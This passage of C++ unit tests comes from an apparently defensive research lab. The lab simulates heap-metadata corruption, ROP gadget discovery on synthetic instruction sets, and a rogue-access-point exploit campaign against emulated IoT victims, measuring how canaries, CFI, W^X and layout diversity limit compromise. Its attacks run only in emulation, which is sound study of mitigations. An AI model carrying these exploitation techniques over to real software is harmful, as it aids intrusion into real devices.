  // which the safe-unlink check catches when the chunk is recycled.
  auto a = lab.heap.Alloc(48);
  auto fence = lab.heap.Alloc(16);
  ASSERT_TRUE(a.ok());
  ASSERT_TRUE(fence.ok());
  ASSERT_TRUE(lab.heap.Free(a.value()).ok());
  ASSERT_TRUE(lab.space.WriteU32(a.value(), 0x31337000).ok());  // fd slot
  auto again = lab.heap.Alloc(48);
  EXPECT_FALSE(again.ok());
  EXPECT_GE(lab.heap.stats().corruptions, 1u);
}

TEST(GuestHeap, NoIntegrityLetsCorruptionThrough) {
  // The undefended allocator is the vulnerable baseline: the same guard
  // smash that trips integrity is silently accepted (Free may scribble,
  // but must not report a corruption trap).
  Lab lab(/*integrity=*/false);
  auto a = lab.heap.Alloc(32);
  auto b = lab.heap.Alloc(32);
  ASSERT_TRUE(a.ok());
  ASSERT_TRUE(b.ok());
  const GuestAddr b_chunk = b.value() - GuestHeap::kHeaderSize;
  ASSERT_TRUE(lab.space.WriteU32(b_chunk + 8, 0x41414141).ok());
  EXPECT_NE(lab.heap.Free(b.value()).code(), StatusCode::kAborted);
  EXPECT_EQ(lab.heap.stats().corruptions, 0u);
}

TEST(GuestHeap, ChunkSecretIsPureFunctionOfSeed) {
  EXPECT_EQ(ChunkSecret(42), ChunkSecret(42));
  EXPECT_NE(ChunkSecret(42), ChunkSecret(43));
  EXPECT_NE(ChunkSecret(42), 0u);
}

}  // namespace
}  // namespace connlab::heap
