// Unit tests for the two synthetic ISAs: encode/decode round trips, the
// assembler's label fixups, and the disassembler sweep.
#include <gtest/gtest.h>

#include "src/isa/assembler.hpp"
#include "src/isa/disasm.hpp"
#include "src/isa/isa.hpp"
#include "src/isa/varm.hpp"
#include "src/isa/vx86.hpp"

namespace connlab::isa {
namespace {

using util::ByteWriter;
using util::Bytes;

// ---------------------------------------------------------------- VX86 ----

TEST(VX86, NopIsSingleByte0x90) {
  ByteWriter w;
  vx86::EncNop(w);
  ASSERT_EQ(w.bytes(), (Bytes{0x90}));
  auto ins = vx86::Decode(w.bytes(), 0);
  ASSERT_TRUE(ins.ok());
  EXPECT_EQ(ins.value().op, Op::kNop);
  EXPECT_EQ(ins.value().length, 1);
}

TEST(VX86, MovImmRoundTrip) {
  ByteWriter w;
  vx86::EncMovImm(w, kEAX, 0xdeadbeef);
  auto ins = vx86::Decode(w.bytes(), 0);
  ASSERT_TRUE(ins.ok());
  EXPECT_EQ(ins.value().op, Op::kMovImm);
  EXPECT_EQ(ins.value().ra, kEAX);
  EXPECT_EQ(ins.value().imm, 0xdeadbeefu);
  EXPECT_EQ(ins.value().length, 6);
}

TEST(VX86, AllOpsRoundTrip) {
  ByteWriter w;
  vx86::EncNop(w);
  vx86::EncPushImm(w, 0x11223344);
  vx86::EncPushReg(w, kEBX);
  vx86::EncPopReg(w, kECX);
  vx86::EncMovImm(w, kEDX, 5);
  vx86::EncMovReg(w, kESI, kEDI);
  vx86::EncLoad(w, kEAX, kESP, 4);
  vx86::EncStore(w, kEAX, kEBP, 8);
  vx86::EncAddImm(w, kESP, 0xC);
  vx86::EncSubImm(w, kESP, 0x10);
  vx86::EncCall(w, 0x8048000);
  vx86::EncRet(w);
  vx86::EncJmp(w, 0x8048010);
  vx86::EncJmpInd(w, 0x804F000);
  vx86::EncSyscall(w);
  vx86::EncHlt(w);
  vx86::EncXorReg(w, kEAX, kEAX);
  vx86::EncCmpImm(w, kEAX, 0);
  vx86::EncJz(w, 0x8048020);
  vx86::EncJnz(w, 0x8048030);
  vx86::EncAddReg(w, kEAX, kEBX, kECX);

  const Op expected[] = {
      Op::kNop, Op::kPushImm, Op::kPush, Op::kPop, Op::kMovImm, Op::kMovReg,
      Op::kLoad, Op::kStore, Op::kAddImm, Op::kSubImm, Op::kCall, Op::kRet,
      Op::kJmp, Op::kJmpInd, Op::kSyscall, Op::kHlt, Op::kXorReg, Op::kCmpImm,
      Op::kJz, Op::kJnz, Op::kAddReg};
  std::size_t offset = 0;
  for (Op want : expected) {
    auto ins = vx86::Decode(w.bytes(), offset);
    ASSERT_TRUE(ins.ok()) << "at offset " << offset;
    EXPECT_EQ(ins.value().op, want);
    offset += ins.value().length;
  }
  EXPECT_EQ(offset, w.bytes().size());
}

TEST(VX86, InvalidOpcodeRejected) {
  Bytes junk{0xFE};
  EXPECT_FALSE(vx86::Decode(junk, 0).ok());
  EXPECT_EQ(vx86::InstrLength(0xFE), 0);
}

TEST(VX86, TruncatedInstructionRejected) {
  Bytes data{vx86::kOpMovImm, kEAX, 0x01, 0x02};  // needs 6 bytes
  EXPECT_FALSE(vx86::Decode(data, 0).ok());
}

TEST(VX86, BadRegisterRejected) {
  Bytes data{vx86::kOpPopReg, 9};
  EXPECT_FALSE(vx86::Decode(data, 0).ok());
}

TEST(VX86, UnalignedDecodeFindsHiddenGadgets) {
  // The tail of a mov-imm can decode as pop;ret — the unintended-gadget
  // property real x86 ROP tools rely on.
  ByteWriter w;
  vx86::EncMovImm(w, kEAX, 0x000B0003u | (static_cast<std::uint32_t>(kEBX) << 8));
  // imm bytes are: 03 bb 0b 00 -> at offset 2: "pop ebx; ret".
  auto pop = vx86::Decode(w.bytes(), 2);
  ASSERT_TRUE(pop.ok());
  EXPECT_EQ(pop.value().op, Op::kPop);
  auto ret = vx86::Decode(w.bytes(), 4);
  ASSERT_TRUE(ret.ok());
  EXPECT_EQ(ret.value().op, Op::kRet);
}

// ---------------------------------------------------------------- VARM ----

TEST(VARM, FixedWidthFourBytes) {
  ByteWriter w;
  varm::EncNop(w);
  EXPECT_EQ(w.bytes().size(), 4u);
  auto ins = varm::Decode(w.bytes(), 0);
  ASSERT_TRUE(ins.ok());
  EXPECT_EQ(ins.value().op, Op::kMovReg);  // nop == mov r1, r1
  EXPECT_EQ(ins.value().ra, kR1);
  EXPECT_EQ(ins.value().rb, kR1);
}

TEST(VARM, MovImm32PairLoadsFullWord) {
  ByteWriter w;
  varm::EncMovImm32(w, kR0, 0xCAFEBABE);
  auto movw = varm::Decode(w.bytes(), 0);
  auto movt = varm::Decode(w.bytes(), 4);
  ASSERT_TRUE(movw.ok());
  ASSERT_TRUE(movt.ok());
  EXPECT_EQ(movw.value().op, Op::kMovImm);
  EXPECT_EQ(movw.value().imm, 0xBABEu);
  EXPECT_EQ(movt.value().op, Op::kMovT);
  EXPECT_EQ(movt.value().imm, 0xCAFEu);
}

TEST(VARM, PushPopMaskRoundTrip) {
  const std::uint16_t mask =
      varm::Mask({kR0, kR1, kR2, kR3, kR5, kR6, kR7, kPC});
  EXPECT_EQ(mask, 0x80EF);
  ByteWriter w;
  varm::EncPop(w, mask);
  auto ins = varm::Decode(w.bytes(), 0);
  ASSERT_TRUE(ins.ok());
  EXPECT_EQ(ins.value().op, Op::kPop);
  EXPECT_EQ(ins.value().reg_mask, mask);
}

TEST(VARM, EmptyRegisterListRejected) {
  Bytes data{varm::kOpPop, 0, 0, 0};
  EXPECT_FALSE(varm::Decode(data, 0).ok());
}

TEST(VARM, BlSignedOffsets) {
  ByteWriter w;
  varm::EncBl(w, -5);
  auto ins = varm::Decode(w.bytes(), 0);
  ASSERT_TRUE(ins.ok());
  EXPECT_EQ(static_cast<std::int32_t>(ins.value().imm), -5);
  ByteWriter w2;
  varm::EncBl(w2, 100000);
  EXPECT_EQ(static_cast<std::int32_t>(varm::Decode(w2.bytes(), 0).value().imm),
            100000);
}

TEST(VARM, BranchAndLiteralRoundTrip) {
  ByteWriter w;
  varm::EncB(w, -2);
  varm::EncBeq(w, 3);
  varm::EncBne(w, 4);
  varm::EncLdrLit(w, kR3, -8);
  auto b = varm::Decode(w.bytes(), 0);
  auto beq = varm::Decode(w.bytes(), 4);
  auto bne = varm::Decode(w.bytes(), 8);
  auto lit = varm::Decode(w.bytes(), 12);
  EXPECT_EQ(b.value().op, Op::kJmp);
  EXPECT_EQ(static_cast<std::int32_t>(b.value().imm), -2);
  EXPECT_EQ(beq.value().op, Op::kJz);
  EXPECT_EQ(bne.value().op, Op::kJnz);
  EXPECT_EQ(lit.value().op, Op::kLdrLit);
  EXPECT_EQ(static_cast<std::int32_t>(lit.value().imm), -8);
}

TEST(VARM, BlxBxAndIndirect) {
  ByteWriter w;
  varm::EncBlx(w, kR3);
  varm::EncBx(w, kLR);
  varm::EncLdrInd(w, kR12, kR12);
  EXPECT_EQ(varm::Decode(w.bytes(), 0).value().op, Op::kBlx);
  EXPECT_EQ(varm::Decode(w.bytes(), 0).value().ra, kR3);
  EXPECT_EQ(varm::Decode(w.bytes(), 4).value().op, Op::kBx);
  EXPECT_EQ(varm::Decode(w.bytes(), 4).value().ra, kLR);
  EXPECT_EQ(varm::Decode(w.bytes(), 8).value().op, Op::kLdrInd);
}

TEST(VARM, InvalidOpcodeRejected) {
  Bytes junk{0x7F, 0, 0, 0};
  EXPECT_FALSE(varm::Decode(junk, 0).ok());
}

TEST(VARM, ZeroWordDecodesAsHlt) {
  Bytes zeros(4, 0);
  auto ins = varm::Decode(zeros, 0);
  ASSERT_TRUE(ins.ok());
  EXPECT_EQ(ins.value().op, Op::kHlt);
}

// ----------------------------------------------------------- Assembler ----

TEST(Assembler, TracksAddresses) {
  Assembler a(Arch::kVX86, 0x8048000);
  EXPECT_EQ(a.addr(), 0x8048000u);
  vx86::EncNop(a.w());
  EXPECT_EQ(a.addr(), 0x8048001u);
  vx86::EncRet(a.w());
  EXPECT_EQ(a.addr(), 0x8048002u);
}

TEST(Assembler, ForwardLabelFixupVX86) {
  Assembler a(Arch::kVX86, 0x1000);
  a.JmpLabel("target");
  vx86::EncHlt(a.w());
  a.Label("target");
  vx86::EncRet(a.w());
  auto bytes = a.Finish();
  ASSERT_TRUE(bytes.ok());
  auto jmp = vx86::Decode(bytes.value(), 0);
  ASSERT_TRUE(jmp.ok());
  EXPECT_EQ(jmp.value().imm, 0x1006u);  // 5 (jmp) + 1 (hlt)
}

TEST(Assembler, UndefinedLabelFails) {
  Assembler a(Arch::kVX86, 0x1000);
  a.CallLabel("missing");
  EXPECT_FALSE(a.Finish().ok());
}

TEST(Assembler, RedefinedLabelFails) {
  Assembler a(Arch::kVX86, 0x1000);
  a.Label("x");
  a.Label("x");
  EXPECT_FALSE(a.Finish().ok());
}

TEST(Assembler, VarmBlLabelBackwards) {
  Assembler a(Arch::kVARM, 0x10000);
  a.Label("fn");
  varm::EncBx(a.w(), kLR);
  a.BlLabel("fn");
  auto bytes = a.Finish();
  ASSERT_TRUE(bytes.ok());
  auto bl = varm::Decode(bytes.value(), 4);
  ASSERT_TRUE(bl.ok());
  EXPECT_EQ(bl.value().op, Op::kBl);
  // bl at 0x10004, next pc 0x10008, target 0x10000 => -2 words.
  EXPECT_EQ(static_cast<std::int32_t>(bl.value().imm), -2);
}

TEST(Assembler, VarmLdrLitLabel) {
  Assembler a(Arch::kVARM, 0x20000);
  a.LdrLitLabel(kR12, "pool");
  varm::EncBx(a.w(), kR12);
  a.Label("pool");
  a.Word32(0x12345678);
  auto bytes = a.Finish();
  ASSERT_TRUE(bytes.ok());
  auto lit = varm::Decode(bytes.value(), 0);
  ASSERT_TRUE(lit.ok());
  // ldrl at 0x20000, next pc 0x20004, pool at 0x20008 => +4 bytes.
  EXPECT_EQ(static_cast<std::int32_t>(lit.value().imm), 4);
}

TEST(Assembler, VarmMovImm32Label) {
  Assembler a(Arch::kVARM, 0x30000);
  a.MovImm32Label(kR0, "s");
  varm::EncHlt(a.w());
  a.Label("s");
  a.Asciz("/bin/sh");
  auto bytes = a.Finish();
  ASSERT_TRUE(bytes.ok());
  auto movw = varm::Decode(bytes.value(), 0);
  auto movt = varm::Decode(bytes.value(), 4);
  const std::uint32_t addr =
      movw.value().imm | (movt.value().imm << 16);
  EXPECT_EQ(addr, 0x3000Cu);  // movw+movt+hlt = 12 bytes
}

TEST(Assembler, Word32LabelEmitsAbsoluteAddress) {
  Assembler a(Arch::kVARM, 0x40000);
  a.Word32Label("end");
  a.Label("end");
  auto bytes = a.Finish();
  ASSERT_TRUE(bytes.ok());
  util::ByteReader r(bytes.value());
  EXPECT_EQ(r.ReadU32LE().value(), 0x40004u);
}

TEST(Assembler, AlignAndAsciz) {
  Assembler a(Arch::kVX86, 0x1001);
  a.AlignTo(4);
  EXPECT_EQ(a.addr() % 4, 0u);
  a.Asciz("ab");
  auto bytes = a.Finish();
  ASSERT_TRUE(bytes.ok());
  EXPECT_EQ(bytes.value().back(), 0);
}

TEST(Assembler, LabelsSnapshot) {
  Assembler a(Arch::kVX86, 0x1000);
  a.Label("start");
  vx86::EncNop(a.w());
  a.Label("after");
  EXPECT_EQ(a.labels().at("start"), 0x1000u);
  EXPECT_EQ(a.labels().at("after"), 0x1001u);
  EXPECT_EQ(a.LabelAddr("start").value(), 0x1000u);
  EXPECT_FALSE(a.LabelAddr("nope").ok());
}

// ------------------------------------------------------------ Disasm ------

TEST(Disasm, SweepsVX86) {
  util::ByteWriter w;
  vx86::EncMovImm(w, kEAX, 11);
  vx86::EncSyscall(w);
  vx86::EncHlt(w);
  auto lines = Disassemble(Arch::kVX86, w.bytes(), 0x1000);
  ASSERT_EQ(lines.size(), 3u);
  EXPECT_EQ(lines[0].addr, 0x1000u);
  EXPECT_EQ(lines[1].addr, 0x1006u);
  EXPECT_TRUE(lines[2].decoded);
}

TEST(Disasm, ResynchronisesAfterJunk) {
  Bytes data{0xFE, 0x90};  // junk byte then nop
  auto lines = Disassemble(Arch::kVX86, data, 0);
  ASSERT_EQ(lines.size(), 2u);
  EXPECT_FALSE(lines[0].decoded);
  EXPECT_TRUE(lines[1].decoded);
}

TEST(Disasm, StringRenderingMentionsMnemonics) {
  util::ByteWriter w;
  varm::EncPop(w, varm::Mask({kR0, kPC}));
  varm::EncBlx(w, kR3);
  const std::string text = DisassembleToString(Arch::kVARM, w.bytes(), 0x10000);
  EXPECT_NE(text.find("pop {r0, pc}"), std::string::npos);
  EXPECT_NE(text.find("blx r3"), std::string::npos);
}

TEST(Disasm, InstrToStringForms) {
  util::ByteWriter w;
  vx86::EncMovImm(w, kEAX, 0x42);
  auto ins = vx86::Decode(w.bytes(), 0);
  EXPECT_EQ(ins.value().ToString(Arch::kVX86), "mov eax, #0x42");
}

}  // namespace
}  // namespace connlab::isa

namespace connlab::isa {
namespace {

TEST(VX86, ByteLoadStoreRoundTrip) {
  util::ByteWriter w;
  vx86::EncLoadByte(w, kEAX, kESI, 0x10);
  vx86::EncStoreByte(w, kEAX, kEDI, 0x20);
  auto ldb = vx86::Decode(w.bytes(), 0);
  ASSERT_TRUE(ldb.ok());
  EXPECT_EQ(ldb.value().op, Op::kLoadByte);
  EXPECT_EQ(ldb.value().imm, 0x10u);
  EXPECT_EQ(ldb.value().length, 7);
  auto stb = vx86::Decode(w.bytes(), 7);
  ASSERT_TRUE(stb.ok());
  EXPECT_EQ(stb.value().op, Op::kStoreByte);
  EXPECT_EQ(stb.value().ToString(Arch::kVX86), "strb eax, [edi, #0x20]");
}

TEST(VARM, ByteLoadStoreRoundTrip) {
  util::ByteWriter w;
  varm::EncLdrb(w, kR3, kR1, 0);
  varm::EncStrb(w, kR3, kR0, 4);
  auto ldrb = varm::Decode(w.bytes(), 0);
  ASSERT_TRUE(ldrb.ok());
  EXPECT_EQ(ldrb.value().op, Op::kLoadByte);
  auto strb = varm::Decode(w.bytes(), 4);
  ASSERT_TRUE(strb.ok());
  EXPECT_EQ(strb.value().op, Op::kStoreByte);
  EXPECT_EQ(strb.value().imm, 4u);
}

}  // namespace
}  // namespace connlab::isa
