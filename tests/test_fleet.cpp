// The fleet subsystem: the discrete-event core, population sampling, the
// rogue AP's bounded cache, the diversified victim pool, and the campaign
// driver's reproducibility contract (same seed => same digest).
#include <gtest/gtest.h>

#include <algorithm>
#include <string>
#include <vector>

#include "src/adapt/camstored.hpp"
#include "src/adapt/resolvd.hpp"
#include "src/attack/battery.hpp"
#include "src/defense/victim_pool.hpp"
#include "src/fleet/campaign.hpp"
#include "src/fleet/event_queue.hpp"
#include "src/fleet/population.hpp"
#include "src/fleet/report.hpp"
#include "src/fleet/rogue_ap.hpp"
#include "src/util/rng.hpp"

namespace connlab {
namespace {

using fleet::BoundedCache;
using fleet::Event;
using fleet::EventQueue;
using fleet::FleetConfig;
using fleet::FleetResult;
using fleet::PopulationProfile;

// --------------------------------------------------------- event queue ----

TEST(EventQueue, PopsInDeadlineOrder) {
  EventQueue queue;
  queue.Push({30, Event::Kind::kLeave, 3});
  queue.Push({10, Event::Kind::kJoin, 1});
  queue.Push({20, Event::Kind::kQuery, 2});
  EXPECT_EQ(queue.size(), 3u);
  EXPECT_EQ(queue.Pop().client, 1u);
  EXPECT_EQ(queue.now(), 10u);
  EXPECT_EQ(queue.Pop().client, 2u);
  EXPECT_EQ(queue.Pop().client, 3u);
  EXPECT_EQ(queue.now(), 30u);
  EXPECT_TRUE(queue.empty());
}

TEST(EventQueue, EqualDeadlinesAreFifo) {
  EventQueue queue;
  for (std::uint32_t i = 0; i < 100; ++i) {
    queue.Push({5, Event::Kind::kQuery, i});
  }
  for (std::uint32_t i = 0; i < 100; ++i) {
    EXPECT_EQ(queue.Pop().client, i);
  }
}

TEST(EventQueue, TimeNeverRunsBackwards) {
  EventQueue queue;
  queue.Push({50, Event::Kind::kJoin, 1});
  (void)queue.Pop();
  queue.Push({10, Event::Kind::kJoin, 2});  // scheduled "in the past"
  (void)queue.Pop();
  EXPECT_EQ(queue.now(), 50u);
}

// ---------------------------------------------------------- population ----

TEST(Population, SamplingIsDeterministicPerStream) {
  const PopulationProfile profile = PopulationProfile::IoTDefault();
  const util::Rng master(99);
  for (std::uint64_t client = 0; client < 32; ++client) {
    util::Rng a = master.Split(client);
    util::Rng b = master.Split(client);
    const fleet::ClientTraits ta = fleet::SampleTraits(profile, a);
    const fleet::ClientTraits tb = fleet::SampleTraits(profile, b);
    EXPECT_EQ(ta.policy.Key(), tb.policy.Key());
    EXPECT_EQ(ta.variant, tb.variant);
    EXPECT_EQ(ta.queries, tb.queries);
    EXPECT_EQ(ta.roams, tb.roams);
  }
}

TEST(Population, RespectsAdoptionRatesRoughly) {
  PopulationProfile profile;
  profile.p_canary = 0.5;
  profile.p_cfi = 0.0;
  profile.diversity_bits = 4;
  util::Rng rng(7);
  int canaried = 0;
  std::uint32_t max_variant = 0;
  for (int i = 0; i < 2000; ++i) {
    const fleet::ClientTraits t = fleet::SampleTraits(profile, rng);
    if (t.policy.canary_bits > 0) ++canaried;
    EXPECT_FALSE(t.policy.cfi);
    EXPECT_TRUE(t.policy.stochastic_diversity);
    EXPECT_LT(t.variant, 16u);
    max_variant = std::max(max_variant, t.variant);
    EXPECT_GE(t.queries, 1u);
  }
  EXPECT_GT(canaried, 800);
  EXPECT_LT(canaried, 1200);
  EXPECT_GT(max_variant, 8u);  // the variant space is actually used
}

TEST(Population, ZeroDiversityIsAMonoculture) {
  PopulationProfile profile;
  profile.diversity_bits = 0;
  util::Rng rng(3);
  for (int i = 0; i < 64; ++i) {
    const fleet::ClientTraits t = fleet::SampleTraits(profile, rng);
    EXPECT_EQ(t.variant, 0u);
    EXPECT_FALSE(t.policy.stochastic_diversity);
  }
}

// ------------------------------------------------------- bounded cache ----

TEST(BoundedCache, EvictsOldestFirst) {
  BoundedCache cache(3);
  cache.Insert(1);
  cache.Insert(2);
  cache.Insert(3);
  EXPECT_TRUE(cache.Lookup(1));
  cache.Insert(4);  // evicts 1 (FIFO, not LRU)
  EXPECT_FALSE(cache.Lookup(1));
  EXPECT_TRUE(cache.Lookup(2));
  EXPECT_TRUE(cache.Lookup(4));
  EXPECT_EQ(cache.evictions(), 1u);
  EXPECT_EQ(cache.size(), 3u);
}

TEST(BoundedCache, NeverExceedsCapacity) {
  BoundedCache cache(8);
  for (std::uint64_t k = 0; k < 1000; ++k) cache.Insert(k);
  EXPECT_EQ(cache.size(), 8u);
  EXPECT_EQ(cache.evictions(), 992u);
  for (std::uint64_t k = 992; k < 1000; ++k) EXPECT_TRUE(cache.Lookup(k));
}

// --------------------------------------------------------- victim pool ----

TEST(VictimPool, MemoAgreesWithFreshEvaluation) {
  // The memo must be an optimisation, not a model: the cached outcome has
  // to match what a real restore + guest-code run produces.
  FleetConfig config;  // only used for its defaults
  defense::VictimPool pool(
      {config.arch, config.base, /*seed0=*/1234});
  auto battery = attack::BuildVolleyBattery(
      config.arch, config.base, /*lab_seed=*/1234,
      {exploit::TechniqueFor(config.arch, config.base)});
  ASSERT_TRUE(battery.ok()) << battery.status().ToString();

  const defense::PolicySpec none;
  defense::PolicySpec cfi;
  cfi.cfi = true;
  for (const defense::PolicySpec& spec : {none, cfi}) {
    auto first = pool.FireVolley(0, spec, 0, battery.value().query_wire,
                                 battery.value().volleys[0].response_wire);
    ASSERT_TRUE(first.ok());
    auto memoed = pool.FireVolley(0, spec, 0, battery.value().query_wire,
                                  battery.value().volleys[0].response_wire);
    auto fresh = pool.FireVolley(0, spec, 0, battery.value().query_wire,
                                 battery.value().volleys[0].response_wire,
                                 /*bypass_memo=*/true);
    ASSERT_TRUE(memoed.ok());
    ASSERT_TRUE(fresh.ok());
    EXPECT_EQ(memoed.value().kind, fresh.value().kind);
    EXPECT_EQ(memoed.value().shell, fresh.value().shell);
  }
  EXPECT_EQ(pool.stats().memo_hits, 2u);
  EXPECT_GE(pool.stats().evaluations, 4u);  // 2 first + 2 bypassed
  // Matched profile, no mitigations: the volley must actually land.
  auto baseline = pool.FireVolley(0, none, 0, battery.value().query_wire,
                                  battery.value().volleys[0].response_wire);
  ASSERT_TRUE(baseline.ok());
  EXPECT_TRUE(baseline.value().shell);
}

TEST(VictimPool, LanesAreSharedAcrossVictims) {
  FleetConfig config;
  defense::VictimPool pool({config.arch, config.base, /*seed0=*/55});
  const defense::PolicySpec none;
  for (int victim = 0; victim < 10; ++victim) {
    ASSERT_TRUE(pool.BootVictim(0, none).ok());
  }
  EXPECT_EQ(pool.stats().lanes, 1u);
  EXPECT_EQ(pool.stats().restores, 10u);
}

TEST(VictimPool, ServiceVolleyMemoAgreesWithFreshEvaluation) {
  FleetConfig config;
  defense::VictimPool pool({config.arch, config.base, /*seed0=*/77});
  const defense::PolicySpec none;
  const std::vector<util::Bytes> loop = {adapt::Resolvd::SelfPointerQuery(7)};
  auto first = pool.FireServiceVolley(
      0, none, 1, defense::VictimPool::ServiceKind::kResolvd, loop);
  auto memoed = pool.FireServiceVolley(
      0, none, 1, defense::VictimPool::ServiceKind::kResolvd, loop);
  auto fresh = pool.FireServiceVolley(
      0, none, 1, defense::VictimPool::ServiceKind::kResolvd, loop,
      /*bypass_memo=*/true);
  ASSERT_TRUE(first.ok()) << first.status().ToString();
  ASSERT_TRUE(memoed.ok());
  ASSERT_TRUE(fresh.ok());
  EXPECT_EQ(memoed.value().kind, fresh.value().kind);
  EXPECT_TRUE(fresh.value().crashed);  // the pointer loop always DoSes
  EXPECT_FALSE(fresh.value().shell);
  EXPECT_EQ(pool.stats().memo_hits, 1u);

  // A benign camstored request parses OK and must not collide with the
  // resolvd memo despite the same (lane, volley_id) coordinates.
  const std::vector<util::Bytes> benign = {
      adapt::Camstored::WrapInPut(util::Bytes(56, 'a'), "snap", 64)};
  auto ok = pool.FireServiceVolley(
      0, none, 1, defense::VictimPool::ServiceKind::kCamstored, benign);
  ASSERT_TRUE(ok.ok()) << ok.status().ToString();
  EXPECT_EQ(ok.value().kind, connman::ProxyOutcome::Kind::kParsedOk);
  EXPECT_FALSE(ok.value().shell);
  EXPECT_FALSE(ok.value().crashed);
}

// ------------------------------------------------------------ campaign ----

FleetConfig SmallCampaign() {
  FleetConfig config;
  config.victims = 400;
  config.seed = 21;
  config.max_concurrent = 64;
  config.population.diversity_bits = 2;
  return config;
}

TEST(FleetCampaign, ReplayIsDeterministic) {
  auto a = fleet::RunFleetCampaign(SmallCampaign());
  auto b = fleet::RunFleetCampaign(SmallCampaign());
  ASSERT_TRUE(a.ok()) << a.status().ToString();
  ASSERT_TRUE(b.ok());
  EXPECT_EQ(a.value().digest, b.value().digest);
  EXPECT_EQ(a.value().compromised, b.value().compromised);
  EXPECT_EQ(a.value().queries, b.value().queries);
  EXPECT_EQ(a.value().sim_end_us, b.value().sim_end_us);
}

TEST(FleetCampaign, DifferentSeedsDiverge) {
  FleetConfig other = SmallCampaign();
  other.seed = 22;
  auto a = fleet::RunFleetCampaign(SmallCampaign());
  auto b = fleet::RunFleetCampaign(other);
  ASSERT_TRUE(a.ok());
  ASSERT_TRUE(b.ok());
  EXPECT_NE(a.value().digest, b.value().digest);
}

TEST(FleetCampaign, EveryVictimIsSeatedAndAccountedFor) {
  auto result = fleet::RunFleetCampaign(SmallCampaign());
  ASSERT_TRUE(result.ok());
  const FleetResult& r = result.value();
  // Terminal states partition the fleet: shelled, crashed, or walked away.
  EXPECT_EQ(r.compromised + r.crashed + r.leaves, r.victims);
  EXPECT_GE(r.joins, r.victims);  // roams and retries re-join
  EXPECT_EQ(r.pool.restores, r.joins + r.pool.evaluations);
  EXPECT_GT(r.queries, r.victims);  // everyone got at least one query in
}

TEST(FleetCampaign, MonocultureFallsAndDiversityShrinksCompromise) {
  FleetConfig config = SmallCampaign();
  config.victims = 600;
  // Strip the orthogonal mitigations so the sweep isolates diversity.
  config.population.p_canary = 0.0;
  config.population.p_cfi = 0.0;
  auto curve = fleet::RunSurvivalSweep(config, {0, 3});
  ASSERT_TRUE(curve.ok()) << curve.status().ToString();
  const auto& points = curve.value();
  ASSERT_EQ(points.size(), 2u);
  // b=0: every attacked victim shares the profiled layout; most of the
  // fleet falls (only victims the attacker never races survive).
  EXPECT_GT(points[0].compromised_fraction, 0.5);
  // b=3: only ~1/8th of the fleet shares it.
  EXPECT_LT(points[1].compromised_fraction,
            points[0].compromised_fraction / 3.0);
  EXPECT_GT(points[1].compromised, 0u);
}

TEST(FleetCampaign, DhcpChurnRecyclesABoundedPool) {
  FleetConfig config = SmallCampaign();
  config.victims = 300;
  config.max_concurrent = 40;
  config.ap.dhcp_pool = 24;  // tighter than the concurrency: forced churn
  auto result = fleet::RunFleetCampaign(config);
  ASSERT_TRUE(result.ok()) << result.status().ToString();
  const FleetResult& r = result.value();
  EXPECT_GT(r.join_retries, 0u);       // exhaustion happened
  EXPECT_EQ(r.joins, r.victims + r.roams);  // and everyone still got in
  EXPECT_GT(r.lease_expiries, 0u);     // leaked leases were reclaimed
}

TEST(FleetCampaign, PointerLoopCampaignOnlyEverDoses) {
  FleetConfig config = SmallCampaign();
  config.bug_class = fleet::BugClass::kPointerLoop;
  auto result = fleet::RunFleetCampaign(config);
  ASSERT_TRUE(result.ok()) << result.status().ToString();
  const FleetResult& r = result.value();
  EXPECT_EQ(r.bug_class, fleet::BugClass::kPointerLoop);
  EXPECT_EQ(r.compromised, 0u);  // control-flow-free: no shell exists
  EXPECT_GT(r.crashed, 0u);
  EXPECT_EQ(r.compromised + r.crashed + r.leaves, r.victims);
  EXPECT_EQ(r.pool.restores, r.joins + r.pool.evaluations);
  // Entropy-independent payoff: the loop volley carries no addresses, so
  // the DoS *fraction* stays flat when the fleet diversifies. (The digest
  // still moves — skipping the variant draw at 0 bits shifts every later
  // per-victim RNG draw, so the timelines differ event by event.)
  FleetConfig flat = config;
  flat.population.diversity_bits = 0;
  auto mono = fleet::RunFleetCampaign(flat);
  ASSERT_TRUE(mono.ok());
  const double diverse_fraction =
      static_cast<double>(r.crashed) / static_cast<double>(r.victims);
  const double mono_fraction = static_cast<double>(mono.value().crashed) /
                               static_cast<double>(mono.value().victims);
  EXPECT_NEAR(mono_fraction, diverse_fraction, 0.05);
}

TEST(FleetCampaign, HeapCampaignRespectsWxAndHeapIntegrity) {
  FleetConfig config = SmallCampaign();
  config.bug_class = fleet::BugClass::kHeapMetadata;
  // Default base is WxAslr: the unlink write lands but the pivot fetches
  // non-executable heap bytes — DoS everywhere, traps where integrity runs.
  auto wx = fleet::RunFleetCampaign(config);
  ASSERT_TRUE(wx.ok()) << wx.status().ToString();
  EXPECT_EQ(wx.value().compromised, 0u);
  EXPECT_GT(wx.value().crashed, 0u);
  EXPECT_GT(wx.value().trapped, 0u);  // p_heap_integrity adopters
  EXPECT_EQ(wx.value().compromised + wx.value().crashed + wx.value().leaves,
            wx.value().victims);

  // Strip W^X and the same fleet starts shelling.
  FleetConfig soft = config;
  soft.base = loader::ProtectionConfig::None();
  auto open = fleet::RunFleetCampaign(soft);
  ASSERT_TRUE(open.ok()) << open.status().ToString();
  EXPECT_GT(open.value().compromised, 0u);
}

TEST(FleetCampaign, BugClassesUseDistinctMemoStreams) {
  // Same seed, different class: replays stay deterministic per class and
  // the two classes genuinely diverge.
  FleetConfig loop = SmallCampaign();
  loop.bug_class = fleet::BugClass::kPointerLoop;
  FleetConfig heap = SmallCampaign();
  heap.bug_class = fleet::BugClass::kHeapMetadata;
  auto a = fleet::RunFleetCampaign(loop);
  auto b = fleet::RunFleetCampaign(loop);
  auto c = fleet::RunFleetCampaign(heap);
  ASSERT_TRUE(a.ok());
  ASSERT_TRUE(b.ok());
  ASSERT_TRUE(c.ok());
  EXPECT_EQ(a.value().digest, b.value().digest);
  EXPECT_NE(a.value().digest, c.value().digest);
}

TEST(FleetCampaign, RejectsBadConfigs) {
  FleetConfig config = SmallCampaign();
  config.population.diversity_bits = 9;
  EXPECT_FALSE(fleet::RunFleetCampaign(config).ok());
  config = SmallCampaign();
  config.victims = 0;
  EXPECT_FALSE(fleet::RunFleetCampaign(config).ok());
  config = SmallCampaign();
  config.ap.lease_ttl_us = 0;
  EXPECT_FALSE(fleet::RunFleetCampaign(config).ok());
  config = SmallCampaign();
  config.profiled_variant = 4;  // outside 2^2 variants
  EXPECT_FALSE(fleet::RunFleetCampaign(config).ok());
}

// -------------------------------------------------------------- report ----

